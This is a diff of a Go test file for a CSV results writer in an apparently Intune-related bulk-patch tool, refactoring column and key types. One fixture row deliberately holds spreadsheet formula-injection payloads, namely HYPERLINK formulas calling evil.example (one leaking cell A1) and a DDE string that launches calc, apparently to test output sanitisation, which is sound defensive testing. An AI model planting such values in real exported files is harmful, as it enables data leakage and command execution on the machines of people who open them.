@@ -5,6 +5,8 @@ import (
 	"encoding/csv"
 	"errors"
 	"fmt"
+	"github.com/bulkpatch/bulkpatch/internal/csvio"
+	"github.com/bulkpatch/bulkpatch/internal/resource"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -26,15 +28,24 @@ var contractColumns = []string{
 	"duration_ms", "finished_at",
 }
 
-var testProps = []string{"deviceName", "errorCode", "userPrincipalName", "osVersion"}
+var (
+	testProps = []string{"deviceName", "errorCode", "userPrincipalName", "osVersion"}
+	testCols  = Columns{Keys: resource.MobileAppInstallStatus.KeyNames(), Props: testProps}
+)
 
 func TestHeader(t *testing.T) {
 	want := append(append([]string(nil), contractColumns...), testProps...)
-	if diff := cmp.Diff(want, Header(testProps)); diff != "" {
+	if diff := cmp.Diff(want, Header(testCols)); diff != "" {
 		t.Errorf("Header (-want +got):\n%s", diff)
 	}
-	if diff := cmp.Diff(contractColumns, Header(nil)); diff != "" {
-		t.Errorf("Header(nil) (-want +got):\n%s", diff)
+	keysOnly := Columns{Keys: testCols.Keys}
+	if diff := cmp.Diff(contractColumns, Header(keysOnly)); diff != "" {
+		t.Errorf("Header without properties (-want +got):\n%s", diff)
+	}
+	withComments := Columns{Keys: testCols.Keys, Props: testProps[:1], Comments: []string{"# note"}}
+	want = append(append(append([]string(nil), contractColumns...), testProps[0]), "# note")
+	if diff := cmp.Diff(want, Header(withComments)); diff != "" {
+		t.Errorf("Header with comments (-want +got):\n%s", diff)
 	}
 }
 
@@ -45,19 +56,19 @@ func hostileRows() []Row {
 	long := strings.Repeat("Zoë’s device 🚀 ", 100) // 1600 runes
 	return []Row{
 		{
-			Line: 2, MobileAppID: "app-ü-1", UserAppInstallStatusID: "user-1", MobileAppInstallStatusID: "st-1",
+			Line: 2, Key: resource.Key{"app-ü-1", "user-1", "st-1"},
 			Outcome: Applied, HTTPStatus: 204, Attempts: 1, RequestID: "req-1", ClientRequestID: "cli-1",
 			Duration: 412*time.Millisecond + 999*time.Microsecond, FinishedAt: time.Date(2026, 11, 30, 6, 52, 10, 123987654, cest),
 			Props: []string{"PC-Zoë-01", "-2016345060", "zoë@contoso.com", ""},
 		},
 		{
-			Line: 3, MobileAppID: "app-ü-1", MobileAppInstallStatusID: "st-2",
+			Line: 3, Key: resource.Key{"app-ü-1", "", "st-2"},
 			Outcome: Unchanged, HTTPStatus: 200, Attempts: 1, RequestID: "req-2", ClientRequestID: "cli-2",
 			Duration: 80 * time.Millisecond, FinishedAt: time.Date(2026, 11, 30, 4, 52, 11, 0, time.UTC),
 			Props: []string{"PC-02", "", "<null>", ""},
 		},
 		{
-			Line: 4, MobileAppID: "app-ü-1", MobileAppInstallStatusID: "st-3",
+			Line: 4, Key: resource.Key{"app-ü-1", "", "st-3"},
 			Outcome: Failed, HTTPStatus: 404, ErrorCode: "ResourceNotFound",
 			ErrorMessage: "The object\r\nwas not found.\nTry again\tlater.", Attempts: 1,
 			RequestID: "req-3", ClientRequestID: "cli-3", Duration: 250 * time.Millisecond,
@@ -65,30 +76,30 @@ func hostileRows() []Row {
 			Props:      []string{"PC-03"},
 		},
 		{
-			Line: 5, MobileAppID: "@app", MobileAppInstallStatusID: "=1+2",
+			Line: 5, Key: resource.Key{"@app", "", "=1+2"},
 			Outcome: Failed, HTTPStatus: 400, ErrorCode: `=HYPERLINK("http://evil.example","x")`,
 			ErrorMessage: long, Attempts: 1, RequestID: "-req", ClientRequestID: "cli-4",
 			Duration: time.Second, FinishedAt: time.Date(2026, 11, 30, 4, 52, 13, 0, time.UTC),
 			Props: []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "@x", "-1+cmd|' /C calc'!A0"},
 		},
 		{
-			Line: 6, MobileAppID: "app-ü-1", MobileAppInstallStatusID: "st-5",
+			Line: 6, Key: resource.Key{"app-ü-1", "", "st-5"},
 			Outcome: Invalid, ErrorCode: "invalid_value",
 			ErrorMessage: `errorCode: "0xZZ" is not a decimal int32 or 0x hex`,
 			Props:        []string{"", "0xZZ", "", ""},
 		},
 		{
-			Line: 7, MobileAppID: "app-ü-1", MobileAppInstallStatusID: "st-6",
+			Line: 7, Key: resource.Key{"app-ü-1", "", "st-6"},
 			Outcome: Skipped, HTTPStatus: 204, Attempts: 2, RequestID: "req-earlier", ClientRequestID: "cli-earlier",
 			Duration: 1500 * time.Millisecond, FinishedAt: time.Date(2026, 11, 29, 23, 0, 0, 0, time.UTC),
 			Props: []string{"PC-06", "0", "", "10.0.26100"},
 		},
 		{
-			Line: 8, MobileAppID: "app-ü-1", MobileAppInstallStatusID: "st-7",
+			Line: 8, Key: resource.Key{"app-ü-1", "", "st-7"},
 			Outcome: NotAttempted, Props: []string{"PC-07", "", "", ""},
 		},
 		{
-			Line: 9, MobileAppID: "app-ü-1", UserAppInstallStatusID: "user-9", MobileAppInstallStatusID: "st-8",
+			Line: 9, Key: resource.Key{"app-ü-1", "user-9", "st-8"},
 			Outcome: Failed, ErrorCode: "timeout", ErrorMessage: "no answer after 11 attempts: context deadline exceeded",
 			Attempts: 11, Duration: 10 * time.Minute, FinishedAt: time.Date(2026, 11, 30, 5, 2, 13, 999_000_000, time.UTC),
 			Props: []string{"PC-08", "\xff\xfe bad bytes"},
@@ -98,7 +109,7 @@ func hostileRows() []Row {
 
 func writeFile(t *testing.T, path string, rows []Row) {
 	t.Helper()
-	w, err := Create(path, testProps)
+	w, err := Create(path, testCols, csvio.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -214,9 +225,9 @@ func TestResultsGolden(t *testing.T) {
 	}
 }
 
-// colIndex returns the position of the named column in Header(testProps).
+// colIndex returns the position of the named column in Header(testCols).
 func colIndex(name string) int {
-	for i, c := range Header(testProps) {
+	for i, c := range Header(testCols) {
 		if c == name {
 			return i
 		}
@@ -285,7 +296,7 @@ func TestCommitReplacesAtomically(t *testing.T) {
 	if err := os.Chmod(path, 0o644); err != nil { // whatever the umask
 		t.Fatal(err)
 	}
-	w, err := Create(path, testProps)
+	w, err := Create(path, testCols, csvio.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -368,7 +379,7 @@ func TestAbort(t *testing.T) {
 	if err := os.WriteFile(path, []byte("old\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	w, err := Create(path, testProps)
+	w, err := Create(path, testCols, csvio.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -390,10 +401,10 @@ func TestAbort(t *testing.T) {
 }
 
 func TestCreateErrors(t *testing.T) {
-	if _, err := Create(filepath.Join(t.TempDir(), "missing", "r.csv"), nil); err == nil {
+	if _, err := Create(filepath.Join(t.TempDir(), "missing", "r.csv"), Columns{}, csvio.WriterOptions{}); err == nil {
 		t.Error("Create in a missing directory = nil error")
 	}
-	w, err := Create(filepath.Join(t.TempDir(), "r.csv"), testProps[:1])
+	w, err := Create(filepath.Join(t.TempDir(), "r.csv"), Columns{Keys: testCols.Keys, Props: testProps[:1]}, csvio.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -405,7 +416,7 @@ func TestCreateErrors(t *testing.T) {
 
 func TestConcurrentWrite(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "r.csv")
-	w, err := Create(path, testProps)
+	w, err := Create(path, testCols, csvio.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -440,7 +451,7 @@ func TestConcurrentWrite(t *testing.T) {
 }
 
 func BenchmarkWriterWrite(b *testing.B) {
-	w, err := Create(filepath.Join(b.TempDir(), "r.csv"), testProps)
+	w, err := Create(filepath.Join(b.TempDir(), "r.csv"), testCols, csvio.WriterOptions{})
 	if err != nil {
 		b.Fatal(err)
 	}
